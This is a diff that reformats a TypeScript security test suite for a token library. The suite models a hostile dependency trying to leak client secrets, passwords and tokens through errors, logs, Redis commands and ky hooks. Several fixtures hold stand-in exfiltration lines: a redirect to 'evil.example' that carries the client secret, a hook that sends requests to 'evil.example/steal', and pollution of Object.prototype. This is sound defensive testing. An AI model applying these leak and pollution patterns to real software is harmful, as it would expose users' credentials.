@@ -1,5 +1,12 @@
 import { inspect } from 'node:util';
-import { type ActOnTokenError, actOnEndpoint, createSession, isActOnTokenError, type Session, sealedStore } from '@act-on-token/core';
+import {
+  type ActOnTokenError,
+  actOnEndpoint,
+  createSession,
+  isActOnTokenError,
+  type Session,
+  sealedStore,
+} from '@act-on-token/core';
 import { createEmulator, type Emulator } from '@act-on-token/emulator';
 import { indexedDbStore } from '@act-on-token/indexeddb';
 import { actOnKy } from '@act-on-token/ky';
@@ -9,9 +16,10 @@ import { afterEach, beforeEach, describe, expect, vi } from 'vitest';
 import { type ManualClock, manualClock } from '../../packages/core/test/support/manual-clock.ts';
 import { attacker } from './attack.ts';
 
-// A package that is installed beside ours, or handed to it, is broken or means harm: it logs, throws and keeps what it was given.
-// It runs in the same process, so it can always call getAccessToken(). What it must not get is a secret for nothing: from an error,
-// a log, an inspection, or by being handed more than its work needs.
+// A package that is installed beside ours, or handed to it, is broken or means harm: it logs,
+// throws and keeps what it was given. It runs in the same process, so it can always call
+// getAccessToken(). What it must not get is a secret for nothing: from an error, a log, an
+// inspection, or by being handed more than its work needs.
 
 const { honest, attack } = attacker('a dependency');
 
@@ -25,8 +33,12 @@ beforeEach(() => {
   printed = [];
   sessions = [];
   for (const name of ['log', 'warn', 'error', 'info', 'debug'] as const)
-    vi.spyOn(console, name).mockImplementation((...args) => void printed.push(inspect(args, { depth: 9, showHidden: true })));
-  vi.spyOn(process, 'emitWarning').mockImplementation((...args) => void printed.push(inspect(args)));
+    vi.spyOn(console, name).mockImplementation(
+      (...args) => void printed.push(inspect(args, { depth: 9, showHidden: true })),
+    );
+  vi.spyOn(process, 'emitWarning').mockImplementation(
+    (...args) => void printed.push(inspect(args)),
+  );
 });
 afterEach(async () => {
   vi.restoreAllMocks();
@@ -36,7 +48,9 @@ afterEach(async () => {
 
 type Fetch = typeof fetch;
 type Redis = Parameters<typeof redisStore>[0];
-function open(more: { fetch?: Fetch; store?: Parameters<typeof createSession>[0]['store'] } = {}): Session {
+function open(
+  more: { fetch?: Fetch; store?: Parameters<typeof createSession>[0]['store'] } = {},
+): Session {
   const endpoint = actOnEndpoint({
     clientId: emulator.client.id,
     clientSecret: emulator.client.secret,
@@ -87,7 +101,8 @@ function quiet(value: unknown, ...words: string[]): void {
   const all = [shown(value), ...printed].join('\n');
   for (const word of [emulator.client.secret, emulator.user.password, ...words]) {
     expect(word.length).toBeGreaterThan(5);
-    for (const form of [word, encodeURIComponent(word), Buffer.from(word).toString('base64')]) expect(all).not.toContain(form);
+    for (const form of [word, encodeURIComponent(word), Buffer.from(word).toString('base64')])
+      expect(all).not.toContain(form);
   }
 }
 /** What a token request carries, told again in an error. */
@@ -103,20 +118,43 @@ describe('a dependency', () => {
     expect(await api.get('api/1/account').json()).toMatchObject({ login: emulator.user.username });
   });
   honest('a client of Redis that keeps to its word works', async () => {
-    expect(await clock.settle(open({ store: redisStore(redisThat()) }).getAccessToken())).toMatch(/./);
+    expect(await clock.settle(open({ store: redisStore(redisThat()) }).getAccessToken())).toMatch(
+      /./,
+    );
   });
 
   describe('that is the fetch', () => {
     const thrown: readonly [string, (init: RequestInit | undefined) => unknown][] = [
       ['an error that quotes the body', (init) => new Error(`POST failed: ${bodyOf(init)}`)],
-      ['a TypeError that quotes it, as for a network that is down', (init) => new TypeError(`fetch failed ${bodyOf(init)}`)],
-      ['an error with the body in its cause', (init) => new TypeError('fetch failed', { cause: new Error(bodyOf(init)) })],
-      ['an error with the request in its fields', (init) => Object.assign(new Error('x'), { request: { body: bodyOf(init) } })],
-      ['an error whose code is the body', (init) => Object.assign(new Error('x'), { code: bodyOf(init) })],
-      ['an error whose name is the body', (init) => Object.assign(new Error('x'), { name: bodyOf(init) })],
-      ['several errors in one', (init) => new AggregateError([new Error(bodyOf(init))], bodyOf(init))],
+      [
+        'a TypeError that quotes it, as for a network that is down',
+        (init) => new TypeError(`fetch failed ${bodyOf(init)}`),
+      ],
+      [
+        'an error with the body in its cause',
+        (init) => new TypeError('fetch failed', { cause: new Error(bodyOf(init)) }),
+      ],
+      [
+        'an error with the request in its fields',
+        (init) => Object.assign(new Error('x'), { request: { body: bodyOf(init) } }),
+      ],
+      [
+        'an error whose code is the body',
+        (init) => Object.assign(new Error('x'), { code: bodyOf(init) }),
+      ],
+      [
+        'an error whose name is the body',
+        (init) => Object.assign(new Error('x'), { name: bodyOf(init) }),
+      ],
+      [
+        'several errors in one',
+        (init) => new AggregateError([new Error(bodyOf(init))], bodyOf(init)),
+      ],
       ['the body itself', (init) => bodyOf(init)],
-      ['an object that shows it as JSON', (init) => ({ toJSON: () => bodyOf(init), toString: () => bodyOf(init) })],
+      [
+        'an object that shows it as JSON',
+        (init) => ({ toJSON: () => bodyOf(init), toString: () => bodyOf(init) }),
+      ],
       ['nothing', () => undefined],
     ];
     for (const [what, make] of thrown) {
@@ -133,22 +171,48 @@ describe('a dependency', () => {
     const answers: readonly [string, (init: RequestInit | undefined) => Response][] = [
       [
         'an error whose description is the request',
-        (init) => Response.json({ error: 'invalid_client', error_description: bodyOf(init) }, { status: 401 }),
+        (init) =>
+          Response.json(
+            { error: 'invalid_client', error_description: bodyOf(init) },
+            { status: 401 },
+          ),
       ],
-      ['an error that is named like the secret', () => Response.json({ error: emulator.client.secret }, { status: 400 })],
-      ['a page that shows the request', (init) => new Response(`<pre>${bodyOf(init)}</pre>`, { status: 500 })],
-      ['a status line that is the secret', () => new Response('', { status: 403, statusText: encodeURIComponent(emulator.client.secret) })],
+      [
+        'an error that is named like the secret',
+        () => Response.json({ error: emulator.client.secret }, { status: 400 }),
+      ],
+      [
+        'a page that shows the request',
+        (init) => new Response(`<pre>${bodyOf(init)}</pre>`, { status: 500 }),
+      ],
+      [
+        'a status line that is the secret',
+        () =>
+          new Response('', { status: 403, statusText: encodeURIComponent(emulator.client.secret) }),
+      ],
       [
         'a redirect with the secret in it',
-        () => new Response('', { status: 302, headers: { location: `https://evil.example/?s=${emulator.client.secret}` } }),
+        () =>
+          new Response('', {
+            status: 302,
+            headers: { location: `https://evil.example/?s=${emulator.client.secret}` },
+          }),
       ],
       [
         'a description with the secret in pieces of white space',
-        () => Response.json({ error: 'x', error_description: emulator.client.secret.split('').join('\t') }, { status: 400 }),
+        () =>
+          Response.json(
+            { error: 'x', error_description: emulator.client.secret.split('').join('\t') },
+            { status: 400 },
+          ),
       ],
       [
         'the description of the password',
-        () => Response.json({ error: 'invalid_grant', error_description: emulator.user.password }, { status: 400 }),
+        () =>
+          Response.json(
+            { error: 'invalid_grant', error_description: emulator.user.password },
+            { status: 400 },
+          ),
       ],
     ];
     for (const [what, make] of answers) {
@@ -161,16 +225,22 @@ describe('a dependency', () => {
     attack('it is asked for a token with the secret in the URL or a header', async () => {
       const seen: string[] = [];
       const keeps: Fetch = (input, init) => {
-        seen.push(String(input instanceof Request ? input.url : input), inspect([...new Headers(init?.headers)]));
+        seen.push(
+          String(input instanceof Request ? input.url : input),
+          inspect([...new Headers(init?.headers)]),
+        );
         return emulator.fetch(input, init);
       };
       await clock.settle(open({ fetch: keeps }).getAccessToken());
-      for (const word of [emulator.client.secret, emulator.user.password]) expect(seen.join()).not.toContain(word);
+      for (const word of [emulator.client.secret, emulator.user.password])
+        expect(seen.join()).not.toContain(word);
     });
     attack('it breaks off a good answer with an error that quotes the tokens', async () => {
       const tokens: string[] = [];
       const breaks: Fetch = async (input, init) => {
-        const { access_token, refresh_token } = (await (await emulator.fetch(input, init)).json()) as Record<string, string>;
+        const { access_token, refresh_token } = (await (
+          await emulator.fetch(input, init)
+        ).json()) as Record<string, string>;
         tokens.push(access_token ?? '', refresh_token ?? '');
         const body = new ReadableStream({
           start: (controller) => controller.error(new Error(`broke off after ${tokens.join()}`)),
@@ -182,7 +252,8 @@ describe('a dependency', () => {
     attack('it answers a call of the API with an error that quotes the header', async () => {
       let token = '';
       const fails: Fetch = async (input, init) => {
-        if (String(input instanceof Request ? input.url : input).includes('/token')) return emulator.fetch(input, init);
+        if (String(input instanceof Request ? input.url : input).includes('/token'))
+          return emulator.fetch(input, init);
         throw new TypeError(`fetch failed`);
       };
       const session = open({ fetch: fails });
@@ -207,7 +278,8 @@ describe('a dependency', () => {
       [
         'the endpoint',
         (session: Session) =>
-          Object(session).endpoint ?? actOnEndpoint({ clientId: emulator.client.id, clientSecret: emulator.client.secret }),
+          Object(session).endpoint ??
+          actOnEndpoint({ clientId: emulator.client.id, clientSecret: emulator.client.secret }),
       ],
       ['a session', (session: Session) => session],
       ['a snapshot', (session: Session) => session.getSnapshot()],
@@ -231,11 +303,20 @@ describe('a dependency', () => {
     attack('it pollutes Object.prototype with options, and a session obeys', async () => {
       const names = ['dangerouslyAllowBrowser', 'baseUrl', 'maxLifetime', 'fetch'];
       for (const name of names)
-        Object.defineProperty(Object.prototype, name, { value: 'https://evil.example', configurable: true, writable: true });
+        Object.defineProperty(Object.prototype, name, {
+          value: 'https://evil.example',
+          configurable: true,
+          writable: true,
+        });
       try {
         let host = 'nowhere';
         try {
-          host = actOnEndpoint({ clientId: 'a', clientSecret: 'b'.repeat(20), fetch: emulator.fetch, region: 'us' }).apiBase.host;
+          host = actOnEndpoint({
+            clientId: 'a',
+            clientSecret: 'b'.repeat(20),
+            fetch: emulator.fetch,
+            region: 'us',
+          }).apiBase.host;
         } catch (error) {
           expect(isActOnTokenError(error, 'configuration'), inspect(error)).toBe(true);
         }
@@ -261,7 +342,9 @@ describe('a dependency', () => {
       const seen: string[] = [];
       const session = open();
       const token = await clock.settle(session.getAccessToken());
-      const api = actOnKy(session, { hooks: { beforeRequest: [(...args) => void seen.push(...args.map((arg) => shown(arg)))] } });
+      const api = actOnKy(session, {
+        hooks: { beforeRequest: [(...args) => void seen.push(...args.map((arg) => shown(arg)))] },
+      });
       await api.get('api/1/account');
       expect(seen.join()).not.toContain(token);
     });
@@ -273,7 +356,10 @@ describe('a dependency', () => {
           return emulator.fetch(input, init);
         },
       });
-      const api = actOnKy(session, { retry: 0, hooks: { beforeRequest: [() => new Request('https://evil.example/steal')] } });
+      const api = actOnKy(session, {
+        retry: 0,
+        hooks: { beforeRequest: [() => new Request('https://evil.example/steal')] },
+      });
       const reason = await api.get('api/1/account').catch((error: unknown) => error);
       expect(isActOnTokenError(reason, 'configuration'), inspect(reason)).toBe(true);
       expect(sent.filter((url) => url.includes('evil'))).toEqual([]);
@@ -292,7 +378,9 @@ describe('a dependency', () => {
   });
 
   /** A client that knows the script and nothing more. */
-  function redisThat(more: (command: string, args: readonly unknown[]) => unknown = () => undefined): Redis {
+  function redisThat(
+    more: (command: string, args: readonly unknown[]) => unknown = () => undefined,
+  ): Redis {
     let held: [unknown, unknown] = [null, null];
     const run =
       (name: string) =>
@@ -300,7 +388,8 @@ describe('a dependency', () => {
         const answer = more(name, args);
         if (answer !== undefined) return answer;
         const [, , , expected, version, value] = args;
-        if (expected !== undefined && expected === (held[0] === null ? '' : `=${held[0]}`)) held = [version, value];
+        if (expected !== undefined && expected === (held[0] === null ? '' : `=${held[0]}`))
+          held = [version, value];
         return [Date.now(), ...held];
       };
     return {
@@ -318,13 +407,18 @@ describe('a dependency', () => {
     for (const [what, make] of [
       [
         'an error with the command and its arguments',
-        (args: readonly unknown[]) => Object.assign(new Error('x'), { name: 'ReplyError', command: { name: 'evalsha', args } }),
+        (args: readonly unknown[]) =>
+          Object.assign(new Error('x'), { name: 'ReplyError', command: { name: 'evalsha', args } }),
       ],
       [
         'an error whose message is the record',
-        (args: readonly unknown[]) => Object.assign(new Error(`ERR ${args.join()}`), { name: 'ReplyError' }),
+        (args: readonly unknown[]) =>
+          Object.assign(new Error(`ERR ${args.join()}`), { name: 'ReplyError' }),
       ],
-      ['an error whose code is the record', (args: readonly unknown[]) => Object.assign(new Error('x'), { code: args.join() })],
+      [
+        'an error whose code is the record',
+        (args: readonly unknown[]) => Object.assign(new Error('x'), { code: args.join() }),
+      ],
       ['a text', (args: readonly unknown[]) => args.join()],
     ] as const) {
       attack(`it throws ${what}, and our error repeats it`, async () => {
@@ -339,19 +433,28 @@ describe('a dependency', () => {
         quiet(error, ...seen);
       });
     }
-    attack('it prints every command, and one of them has the client secret or the password', async () => {
-      const seen: string[] = [];
-      const redis = redisThat((name, args) => void seen.push(name, ...args.map(String)));
-      await clock.settle(open({ store: redisStore(redis) }).getAccessToken());
-      for (const word of [emulator.client.secret, emulator.user.password]) expect(seen.join()).not.toContain(word);
-    });
-    attack('it prints every command, and one of them has a token, although the store is sealed', async () => {
-      const seen: string[] = [];
-      const redis = redisThat((name, args) => void seen.push(name, ...args.map(String)));
-      const store = sealedStore(redisStore(redis), { current: crypto.getRandomValues(new Uint8Array(32)) });
-      const token = await clock.settle(open({ store }).getAccessToken());
-      expect(seen.join()).not.toContain(token);
-    });
+    attack(
+      'it prints every command, and one of them has the client secret or the password',
+      async () => {
+        const seen: string[] = [];
+        const redis = redisThat((name, args) => void seen.push(name, ...args.map(String)));
+        await clock.settle(open({ store: redisStore(redis) }).getAccessToken());
+        for (const word of [emulator.client.secret, emulator.user.password])
+          expect(seen.join()).not.toContain(word);
+      },
+    );
+    attack(
+      'it prints every command, and one of them has a token, although the store is sealed',
+      async () => {
+        const seen: string[] = [];
+        const redis = redisThat((name, args) => void seen.push(name, ...args.map(String)));
+        const store = sealedStore(redisStore(redis), {
+          current: crypto.getRandomValues(new Uint8Array(32)),
+        });
+        const token = await clock.settle(open({ store }).getAccessToken());
+        expect(seen.join()).not.toContain(token);
+      },
+    );
     attack('its option of a prefix takes the store to the keys of another', async () => {
       const seen: string[] = [];
       const redis = redisThat((_name, args) => void seen.push(String(args[2])));
@@ -379,7 +482,9 @@ describe('a dependency', () => {
     ] as const) {
       attack(`it ${what}, and our error repeats it`, async () => {
         vi.stubGlobal('indexedDB', { open: open_ });
-        const error = await failure(indexedDbStore().swap('key', null, { version: 'a', value: 'SECRET-RECORD' }));
+        const error = await failure(
+          indexedDbStore().swap('key', null, { version: 'a', value: 'SECRET-RECORD' }),
+        );
         expect(error.code).toBe('store_unavailable');
         quiet(error, 'SECRET-RECORD');
       });
